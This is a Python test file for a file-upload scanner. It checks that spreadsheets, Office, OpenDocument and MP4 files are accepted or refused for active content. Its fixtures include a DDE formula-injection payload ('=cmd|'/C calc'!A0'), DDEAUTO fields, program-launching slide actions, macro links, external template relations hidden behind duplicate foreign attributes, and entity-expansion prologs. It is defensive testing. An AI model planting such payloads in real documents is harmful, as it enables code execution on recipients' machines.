def test_a_text_that_is_no_table_to_us_may_be_one_to_a_spreadsheet() -> None:
    assert refused(b"=cmd|'/C calc'!A0\n") is ActiveContent
    assert look(b"- the first;\n- the second, - the third | or !\n").media_type == TEXT


def test_a_table_in_text_may_compute_and_list() -> None:
    rows = "a;b\n=SUM(A1:A2);-5\n- DDE (Val-d'Oise);+33 1 23\n-oui|non;@moi!\nrtd(1);cmd|'x'!A0\n"
    assert look(rows.encode()).media_type == CSV
    assert look(b"nom,note\n-5,a|b !\n=A1,image(1)\n").media_type == CSV


def test_words_that_look_like_a_function_or_a_field_are_no_action() -> None:
    shown = ("xl/sharedStrings.xml", b"<s><t>=WEBSERVICE(A1), said she; DDE (Dotation)</t></s>")
    assert look(made.office(shown, family="xl")).media_type == XLSX
    assert look(sheet(b'SUM(A1:A9)&amp;"image (1)"&amp;MYDDE(1)')).media_type == XLSX
    assert look(cell(b"of:=IF([.A1]&gt;1;&quot;DDE&quot;;(2))")).media_type == ODS
    assert look(cell(b"of:=[$&apos;Q 1&apos;.A1]&amp;&quot;l'un 'ou'#l'autre&quot;")).media_type == ODS
    said = b'<w:fldChar/><w:instrText> HYPERLINK "https://example.org" \\o "a link" </w:instrText><w:fldChar/>'
    pasted = b'<w:fldChar/><w:instrText> INCLUDEPICTURE "https://example.org/a" </w:instrText><w:fldChar/>'
    assert look(made.office(body=said + pasted)).media_type == DOCX


FOREIGN = b' xmlns:z="urn:foreign"'
HIDDEN_BEHIND_A_FOREIGN_ATTRIBUTE = {
    "a picture from elsewhere": made.opendocument(
        body=b'<draw:image%s xlink:href="https://example.org/x" z:href="Pictures/x.png"/>' % FOREIGN
    ),
    "a link that runs a macro": made.opendocument(
        body=b'<text:a%s xlink:href="vnd.sun.star.script:x" z:href="https://example.org"/>' % FOREIGN
    ),
    "a slide that starts a program": made.opendocument(
        kind="presentation",
        body=b'<presentation:event-listener%s presentation:action="execute" z:action="next-page"/>' % FOREIGN,
    ),
    "an external template": made.office(
        (
            "word/_rels/settings.xml.rels",
            made.relations(("attachedTemplate", 'a" z:Type="x/hyperlink', True)).replace(b" Id=", FOREIGN + b" Id="),
        )
    ),
    "an external picture": made.office(
        (
            "word/_rels/document.xml.rels",
            made.relations(("image", 'a" z:Type="x/hyperlink', True)).replace(b" Id=", FOREIGN + b" Id="),
        )
    ),
    "a picture that is said to be within": made.office(
        (
            "word/_rels/document.xml.rels",
            made.relations(("image", "http://x", True)).replace(
                b' TargetMode="External"', FOREIGN + b' TargetMode="External" z:TargetMode="Internal"'
            ),
        )
    ),
    "a field that starts a program": made.office(
        body=b'<w:fldSimple%s w:instr="DDEAUTO cmd" z:instr="PAGE"/>' % FOREIGN
    ),
    "a slide whose click starts a program": made.office(
        ("ppt/slides/slide1.xml", b'<s%s><a action="ppaction://program" z:action="x"/></s>' % FOREIGN), family="ppt"
    ),
    "a kind with macros": made.office(
        types='<Override xmlns:z="urn:foreign" PartName="/a" ContentType="application/vnd.ms-office.vbaProject"'
        ' z:ContentType="image/png"/>'
    ),
    "a text with a field, said to be a picture": made.office(
        ("word/a.dat", b"<w:x xmlns:w='w'><w:instrText>DDEAUTO cmd</w:instrText></w:x>"),
        types='<Override xmlns:z="urn:foreign" PartName="/word/a.dat" ContentType="application/xml"'
        ' z:ContentType="image/png"/>',
    ),
}


@pytest.mark.parametrize("name", HIDDEN_BEHIND_A_FOREIGN_ATTRIBUTE)
def test_what_acts_does_not_hide_behind_a_foreign_attribute_of_the_same_name(name: str) -> None:
    assert refused(HIDDEN_BEHIND_A_FOREIGN_ATTRIBUTE[name]) is ActiveContent


def test_two_attributes_of_the_same_name_are_ordinary() -> None:
    """A slide is listed with an id of its own, and that of its relation."""
    listed = b"<p xmlns:r='urn:r'><sldId id='256' r:id='rId2'/></p>"
    assert look(made.office(("ppt/list.xml", listed), family="ppt")).media_type == PPTX


@pytest.mark.parametrize("name", ["mimetype", "META-INF/manifest.xml"])
def test_an_office_file_of_one_family_is_none_of_the_other_as_well(name: str) -> None:
    assert refused(made.office((name, b"<x/>"), ("Basic/Standard/Module1.xml", b"<x/>"))) is TypeMismatch


def test_a_drawing_and_a_printer_s_settings_are_no_action() -> None:
    """Office files of today hold pictures as SVG; those of a Mac, its printer's settings with a document type."""
    settings = ("ppt/printerSettings/printerSettings1.bin", b"<?xml version='1.0'?><!DOCTYPE plist><plist/>")
    assert look(made.office(settings, ("ppt/media/image1.svg", made.SVG), family="ppt")).media_type == PPTX


def test_a_link_a_chart_s_table_and_a_turn_of_a_slide_are_no_action() -> None:
    link = ("word/_rels/document.xml.rels", made.relations(("hyperlink", "https://example.org", True)))
    table = ("word/embeddings/a.xlsx", made.office(family="xl"))
    assert look(made.office(link, table, body=b"<w:instrText> PAGE of an address </w:instrText>")).media_type == DOCX
    turn = b'<presentation:event-listener presentation:action="next-page"/><text:a xlink:href="https://example.org"/>'
    assert look(made.opendocument(kind="presentation", body=turn)).media_type == ODP
    assert look(made.zipped(("a.docx", made.office(table)))).media_type == ZIP


@pytest.mark.parametrize("prolog", [DOCTYPE, LAUGHS, b"<!DOCTYPE x>"])
def test_a_part_with_a_document_type_is_refused(prolog: bytes) -> None:
    assert refused(made.opendocument(prolog=prolog)) is InvalidFile
    assert refused(made.office(("word/styles.xml", prolog + b"<x/>"))) is InvalidFile
    assert refused(made.office(("word/_rels/a.xml.rels", prolog + b"<x/>"))) is InvalidFile
    utf16 = "\ufeff<?xml version='1.0' encoding='UTF-16'?>" + prolog.decode() + "<x/>"
    assert refused(made.office(("word/styles.xml", utf16.encode("utf-16-le")))) is InvalidFile


def test_what_is_encrypted_in_an_archive_or_an_office_file_is_refused() -> None:
    content = made.zipped(("a.txt", b"a"))
    locked = content.replace(b"PK\x03\x04\x14\0\0\0", b"PK\x03\x04\x14\0\1\0").replace(
        b"PK\x01\x02\x14\x03\x14\0\0\0", b"PK\x01\x02\x14\x03\x14\0\1\0"
    )
    assert refused(locked) is Unscannable
    entry = b"<m:file-entry><m:encryption-data/></m:file-entry>"
    assert refused(made.opendocument(manifest=entry)) is Unscannable


def test_a_broken_office_file_is_refused() -> None:
    assert refused(made.office(("word/styles.xml", b"<x>"))) is InvalidFile
    assert refused(made.zipped(("mimetype", made.ODF.encode() + b"text"), ("content.xml", b"<x/>"))) is InvalidFile
    assert refused(made.zipped(("[Content_Types].xml", b"<Types/>"))) is TypeMismatch
    assert refused(made.opendocument(kind="graphics")) is TypeMismatch


# sound and film


def test_a_film_that_is_cut_or_has_foreign_boxes_or_no_track_is_refused() -> None:
    assert refused(made.film()[:-10]) is InvalidFile
    assert refused(made.film(made.box(b"html", made.HTML))) is InvalidFile
    assert refused(made.film() + b"tail") is InvalidFile
    assert refused(made.box(b"ftyp", b"isom", bytes(8)) + made.box(b"mdat", b"x")) is InvalidFile


def tracked(flags: int, address: bytes) -> bytes:
    """A film whose track says in which file it stands."""
    entry = made.box(b"url ", struct.pack(">I", flags), address)
    listed = made.box(b"dref", bytes(4), struct.pack(">I", 1), entry)
    track = made.box(b"mdia", made.box(b"minf", made.box(b"dinf", listed)))
    moov = made.box(b"moov", made.box(b"mvhd", bytes(100)), made.box(b"trak", made.box(b"tkhd", bytes(84)), track))
    return made.box(b"ftyp", b"isom", bytes(4), b"mp42") + moov + made.box(b"mdat", bytes(64))


def test_a_film_is_played_from_itself() -> None:
    assert look(tracked(1, b"")).media_type == MP4
    assert look(tracked(0, b"\0")).media_type == MP4
    assert refused(tracked(0, b"https://example.org/a.mp4\0")) is ActiveContent
    another = made.box(b"rmra", made.box(b"rmda", made.box(b"rdrf", bytes(4), b"url ", b"https://example.org/a.mp4")))
    begun = made.film()
    length = int.from_bytes(begun[20:24])
    longer = struct.pack(">I", length + len(another)) + begun[24 : 20 + length] + another
    assert refused(begun[:20] + longer + begun[20 + length :]) is ActiveContent


def test_every_refusal_is_a_sentence_in_both_languages() -> None:
    for refusal in ALL:
        for language in ("en", "fr"):
            assert refusal.sentence(language)[0].isupper()
            assert refusal.sentence(language).endswith(".")
        assert "fr" in vars(refusal)
    assert len({refusal.slug() for refusal in ALL}) == len(ALL)


def test_every_kind_that_is_accepted_has_a_sound_file_here() -> None:
    assert {media_type for _, media_type in SOUND_FILES.values()} == ACCEPTED
